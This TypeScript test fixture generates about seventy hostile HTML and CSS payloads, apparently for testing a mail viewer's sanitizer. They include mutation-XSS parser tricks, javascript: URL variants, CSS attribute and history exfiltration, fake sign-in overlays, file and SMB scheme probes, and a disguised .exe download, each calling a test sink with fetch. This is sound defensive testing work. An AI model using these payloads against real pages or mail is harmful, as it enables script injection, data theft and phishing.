/**
 * A further round of attempts, each of another idea than those of `hostile-html.ts`: markup that changes when it is read
 * again, things that draw over or take the keyboard, addresses inside the app, style that watches. `hit` as there.
 */
export function inventions(hit: string): (readonly [name: string, html: string])[] {
  const at = (name: string) => `${hit}/${name}`;
  const run = (name: string) => `fetch('${hit}/${name}');try{top.pwned=1}catch(e){}`;
  const image = (name: string) => `<img src=x: onerror="${run(name)}">`;
  return [
    // Markup that is read differently the second time
    ['math in table in svg', `<svg><desc><table><math><mtext><svg><style><!--</style>${image('m1')}`],
    [
      'noscript inside template inside svg title',
      `<svg><title><template><noscript><p alt="</noscript></template></title></svg>${image('m2')}">`,
    ],
    [
      'mglyph after nested form',
      `<form><math><mi><form><mglyph><style></math><svg><style><a title="</style>${image('m3').replaceAll('"', '&quot;')}">`,
    ],
    [
      'annotation with an integration point by name alone',
      `<math><annotation-xml encoding="application/xhtml+xml"><noembed><style></noembed>${image('m4')}</style></annotation-xml></math>`,
    ],
    ['foreign self-closing style', `<svg><style/><img src=x: onerror="${run('m5')}"><style></style></svg>`],
    [
      'nested anchors and buttons',
      `<a><button><a>${image('m6')}</button></a></a><nobr><nobr>${image('m6b')}`,
    ],
    ['deep formatting stack', `${'<b><i><u><font>'.repeat(300)}${image('m7')}`],
    [
      'nesting at the parser’s limit',
      `${'<span>'.repeat(511)}<svg><title><style>${image('m8')}</style></title>`,
    ],
    ['processing instruction with an end', `<?x ><${'!'}--?>${image('m9')}--><p>`],
    ['doctype with an entity', `<!DOCTYPE x [<!ENTITY a "${image('m10').replaceAll('"', "'")}">]><p>&a;</p>`],
    [
      'is attribute and custom element',
      `<p is="x-y" onclick="${run('m11')}">a</p><x-y onpointerover="${run('m11')}">b</x-y>`,
    ],
    [
      'attribute names with odd bytes',
      `<img src=x: on\u0000error="${run('m12')}" on\u000cerror="${run('m12')}" \u00a0onerror="${run('m12')}">`,
    ],
    [
      'duplicate attributes',
      `<a href="https://example.org" href="javascript:${run('m13')}">a</a><img src=x: alt=1 alt=2 onerror="${run('m13')}">`,
    ],
    [
      'overlong and surrogate escapes',
      `\xc0\xbcscript\xc0\xbe${run('m14')}\xc0\xbc/script\xc0\xbe<\ud800script>${run('m14')}</script>`,
    ],
    ['byte order marks', `\ufeff<\ufeffscript>${run('m15')}</script>\ufffe<script>${run('m15')}</script>`],
    [
      'frameset in place of the body',
      `<frameset onload="${run('m16')}"><noframes>${image('m16')}</noframes></frameset>`,
    ],
    [
      'select with markup inside',
      `<select><option><svg><script>${run('m17')}</script></svg></option><hr>${image('m17')}</select>`,
    ],
    [
      'selectedcontent',
      `<select><button><selectedcontent></selectedcontent></button><option>${image('m18')}</option></select>`,
    ],
    [
      'declarative shadow with slots',
      `<div><template shadowrootmode=open shadowrootserializable>${image('m19')}<slot></slot></template>${image('m19b')}</div>`,
    ],
    [
      'parse by xml rules',
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${run('m20')}]]></script></body></html>`,
    ],

    // Elements and attributes that act
    [
      'dialog that opens itself',
      `<dialog open oncancel="${run('a1')}" closedby=any><form method=dialog action="${at('a1')}"><button autofocus>OK</button></form></dialog>`,
    ],
    [
      'popover with an anchor',
      `<div popover=manual id=q style="position-anchor:--a;inset:0" ontoggle="${run('a2')}">x</div><button popovertarget=q popovertargetaction=show interestfor=q>x</button>`,
    ],
    [
      'exclusive details',
      `<details name=g open ontoggle="${run('a3')}"><summary accesskey=e>s</summary>${image('a3')}</details><details name=g open>t</details>`,
    ],
    [
      'access keys',
      `<a href="${at('a4')}" accesskey=e>a</a><button accesskey="#" onclick="${run('a4')}">b</button><label accesskey=s for=i>c</label>`,
    ],
    [
      'editing',
      `<div contenteditable=plaintext-only autofocus onbeforeinput="${run('a5')}" oninput="${run('a5')}" virtualkeyboardpolicy=manual>type</div>`,
    ],
    [
      'search element and datalist',
      `<search><form action="${at('a6')}"><input list=d name=q autofocus onsearch="${run('a6')}"><datalist id=d><option value=x></datalist></form></search>`,
    ],
    [
      'permission and geolocation elements',
      `<permission type="camera microphone" onpromptaction="${run('a7')}"></permission><geolocation autolocate onlocation="${run('a7')}"></geolocation>`,
    ],
    [
      'fenced and portal',
      `<fencedframe mode=opaque-ads src="${at('a8')}"></fencedframe><portal src="${at('a8')}" onload="${run('a8')}"></portal><webview src="${at('a8')}" nodeintegration></webview>`,
    ],
    [
      'browser plugin elements',
      `<browserplugin src="${at('a9')}"></browserplugin><guest-view src="${at('a9')}"></guest-view><controlledframe src="${at('a9')}"></controlledframe>`,
    ],
    [
      'media with text tracks and chapters',
      `<video controls autoplay muted src="${at('a10')}"><track kind=metadata default src="${at('a10t')}" oncuechange="${run('a10')}"></video>`,
    ],
    [
      'model and canvas',
      `<model src="${at('a11')}" interactive></model><canvas onwebglcontextlost="${run('a11')}">${image('a11')}</canvas>`,
    ],
    [
      'fetch priority hints',
      `<img fetchpriority=high decoding=sync src="${at('a12')}" sharedstoragewritable browsingtopics crossorigin=use-credentials>`,
    ],
    [
      'link of every eager kind',
      `<link rel="preload dns-prefetch preconnect prefetch" as=script href="${at('a13')}" blocking=render><link rel=expect href="#x" blocking=render><link rel=compression-dictionary href="${at('a13')}"><link rel=payment href="${at('a13')}">`,
    ],
    [
      'meta that rewrites the page',
      `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=default-style content=x><meta http-equiv=origin-trial content=x><meta name=viewport content="width=99999"><meta http-equiv=accept-ch content=ua>`,
    ],
    [
      'refresh with odd spellings',
      `<meta http-equiv="refresh" content="0,${at('a15')}"><meta http-equiv="&#114;efresh" content=".0;URL&#61;'${at('a15')}'"><meta content="0;url=${at('a15')}" http-equiv=refresh>`,
    ],

    // Vector graphics
    [
      'use of data',
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${at('v1')}'/></svg>#x"/></svg>`,
    ],
    [
      'animated address',
      `<svg><a><text y=20>a</text><set attributeName="xlink:href" to="javascript:${run('v2')}" begin=0s /><animate attributeName=href values="${at('v2')}" begin=0s /></a></svg>`,
    ],
    [
      'discard and handler',
      `<svg><discard onbegin="${run('v3')}" begin=0s /><handler type="application/ecmascript" ev:event=load>${run('v3')}</handler><listener event=load handler="#h"/></svg>`,
    ],
    [
      'paint servers and markers',
      `<svg><path d="M0 0h9" marker-end="url(${at('v4')}#m)" stroke="url(${at('v4')}#p)" cursor="url(${at('v4')}),auto"/><text><textPath href="${at('v4')}#t">a</textPath></text></svg>`,
    ],
    [
      'picture that is a drawing with all tricks',
      `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${run('v5').replaceAll('"', "'")}"><style>@import url(${at('v5')});</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at('v5')}"/></foreignObject><image xlink:href="${at('v5')}"/></svg>`).toString('base64')}">`,
    ],
    [
      'cursor and color profile elements',
      `<svg><cursor id=c xlink:href="${at('v6')}"/><color-profile xlink:href="${at('v6')}"/><font-face-uri xlink:href="${at('v6')}"/><rect style="cursor:url(#c)" width=9 height=9 /></svg>`,
    ],

    // Style that fetches, watches, covers
    [
      'cross-fade and image of every spelling',
      `<p style="background:cross-fade(50% url(${at('s1')}), red);background:image(ltr '${at('s1')}');background:-webkit-cross-fade(url(${at('s1')}),url(${at('s1b')}),.5)">a</p>`,
    ],
    [
      'image-set with types',
      `<p style="background-image:image-set(url('${at('s2')}') type('image/png') 1x, '${at('s2b')}' 2x)">a</p>`,
    ],
    [
      'scroll and view timelines',
      `<style>p{animation:k linear;animation-timeline:view();scroll-timeline:--t;timeline-scope:--t}@keyframes k{to{background:url(${at('s3')})}}</style><p onscrollsnapchange="${run('s3')}" style="scroll-snap-align:start">a</p>`,
    ],
    [
      'visited history',
      `<style>a:visited{color:red;background:url(${at('s4')})}a:link::after{content:url(${at('s4')})}</style><a href="https://example.org">a</a>`,
    ],
    [
      'reading attributes letter by letter',
      `<style>${[...'abc'].map((letter) => `[title^=${letter}]{--x:url(${at(`s5${letter}`)});background:var(--x)}`).join('')}[title]::after{content:attr(title)}</style><p title=secret>a</p>`,
    ],
    [
      'attr() as an address',
      `<style>p{background:image-set(attr(data-u));background:attr(data-u type(<url>))}</style><p data-u="${at('s6')}">a</p>`,
    ],
    [
      'if() and custom functions',
      `<style>@function --f(){result:url(${at('s7')})}p{background:--f();background:if(style(--a:1):url(${at('s7')});else:url(${at('s7')}))}</style><p>a</p>`,
    ],
    [
      'paint worklets and element()',
      `<style>p{background:paint(x);background:-moz-element(#a);background:-webkit-canvas(x);background:-webkit-named-image(apple-pay-logo)}</style><p>a</p>`,
    ],
    [
      'fonts by local name and feature',
      `<style>@font-face{font-family:a;src:local("x"),url(${at('s9')})format("woff2")}@font-feature-values a{@styleset{x:1}}@font-palette-values --p{font-family:a;base-palette:url(${at('s9')})}p{font-family:a;font-palette:--p}</style><p>a</p>`,
    ],
    [
      'counter styles and cursors',
      `<style>@counter-style c{system:cyclic;symbols:url(${at('s10')});prefix:url(${at('s10')})}li{list-style:c}</style><ul><li>a</ul>`,
    ],
    [
      'everything over the app',
      `<div style="position:fixed;position:-webkit-sticky;inset:-9999px;z-index:2147483647;width:100vw;height:100vh;background:#fff url(${at('s11')});display:contents">Sign in again</div>`,
    ],
    [
      'negative margins and transforms',
      `<div style="margin:-9999px;transform:translate(-500px,-500px) scale(50);transform-style:preserve-3d;zoom:900%;top:-1000px;position:absolute">Sign in</div>`,
    ],
    [
      'escape by encoded names',
      `<style>@\\000069mport '${at('s13')}';p{\\62 ackground:\\000075rl(${at('s13')});backgr\\6fund-image:u\\rl(${at('s13')})}</style><p>a</p>`,
    ],
    [
      'comment and string confusion',
      `<style>p{color:"/*";background:url(${at('s14')});x:"*/"}q{content:"\\";background:url(${at('s14')});x:"}</style><p style="font-family:'\\';background:url(${at('s14')});x:'">a</p>`,
    ],
    [
      'sheet in a data address',
      `<link rel=stylesheet href="data:text/css,p{background:url(${at('s15')})}"><style>@import 'data:text/css;base64,${Buffer.from(`p{background:url(${at('s15')})}`).toString('base64')}';</style><p>a</p>`,
    ],
    [
      'nested and scoped sheets',
      `<style>@scope (p){:scope{background:url(${at('s16')})}}@layer a{@media all{p{&{background:url(${at('s16')})}}}}@starting-style{p{background:url(${at('s16')})}}</style><p>a</p>`,
    ],
    [
      'highlight and view transitions',
      `<style>::highlight(x),::spelling-error,::target-text{background:url(${at('s17')})}::view-transition-new(root){animation:k;background:url(${at('s17')})}@view-transition{navigation:auto}</style><p>a</p>`,
    ],

    // Addresses
    [
      'addresses of the app',
      `<img src="mail-content://0/"><img src="app://homeport/index.html"><img src="blob:null/00000000-0000-0000-0000-000000000000"><img src="filesystem:${hit}/temporary/x"><a href="mail-content://0/">a</a><a href="app://homeport/">b</a><iframe src="app://homeport/"></iframe>`,
    ],
    [
      'content addresses of the host',
      `<img src="./content/00"><img src="/content/00"><img src="../viewer/00"><a href="/content/00">a</a><form action="./rpc"><button>b</button></form>`,
    ],
    [
      'schemes of the system',
      `<img src="file:///etc/passwd"><img src="smb://${hit.slice(7)}/x"><img src="\\\\${hit.slice(7)}\\x"><img src="ms-appx:///x"><img src="chrome://version"><a href="search-ms:query=x&crumb=location:\\\\${hit.slice(7)}">a</a>`,
    ],
    [
      'javascript with every separator',
      [
        '\u0000',
        '\u0001',
        '\t',
        '\n',
        '\r',
        '\u000c',
        '\u00a0',
        '\u2028',
        '\ufeff',
        '&#x0A;',
        '&NewLine;',
        '&Tab;',
        '/**/',
      ]
        .map((gap) => `<a href="${gap}java${gap}script${gap}:${run('u4')}">a</a>`)
        .join(''),
    ],
    [
      'data documents with odd types',
      `<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-${run('u5')}+ADw-/script+AD4-"></iframe><a href="data:image/svg+xml,<svg onload=${run('u5')}>">a</a><object data="data:application/xhtml+xml,<x/>"></object>`,
    ],
    [
      'pictures of other messages',
      `<img src="cid:../1/logo"><img src="cid:%2e%2e%2f%2e%2e"><img src="cid:logo?messageId=1"><img src="mid:1@example.org/logo"><img src="cid:${'a'.repeat(5000)}"><img src="cid:"><img src="cid:%ff">`,
    ],
    [
      'userinfo and ports in pictures',
      `<img src="https:${hit.slice(5)}@example.org/"><img src="https://a:b@${hit.slice(7)}/u7"><img src="HTTPS:\\\\${hit.slice(7)}\\u7"><img src="https:///${hit.slice(7)}/u7">`,
    ],
    [
      'pictures beside and around',
      `<picture><source media="(min-width:0)" srcset="${at('u8')} 1x" type=image/png><source srcset="${at('u8')}"><img srcset="${at('u8')} 1w" sizes="100vw" src="data:,"></picture><img srcset=",${at('u8')},,${at('u8')} 2x">`,
    ],
    [
      'link that downloads and tells',
      `<a href="${at('u9')}" download="report.pdf.exe" ping="${at('ping1')} ${at('ping2')}" referrerpolicy=unsafe-url rel="opener prefetch" target="_unfencedTop" type=text/html attributionsrc="${at('u9a')}">a</a>`,
    ],
    [
      'imitation of the frame’s own marks',
      `<button data-hp-fold aria-expanded=true onclick="${run('u10')}">x</button><a data-hp-href="app://homeport/" data-hp-anchor="x" role=link tabindex=0>a</a><img data-hp-cid="logo" data-hp-blocked src="${at('u10')}"><style>[data-hp-fold]{position:fixed;inset:0;background:url(${at('u10')})}</style>`,
    ],
    [
      'clobbered with everything the viewer uses',
      [
        'body',
        'head',
        'documentElement',
        'adoptedStyleSheets',
        'createElement',
        'createRange',
        'querySelectorAll',
        'defaultView',
        'children',
        'attributes',
        'style',
        'parentElement',
      ]
        .map(
          (name) =>
            `<img name=${name} id=${name}><form name=${name}><input name=${name}></form><object id=${name} name=${name}></object>`,
        )
        .join(''),
    ],
  ];
}
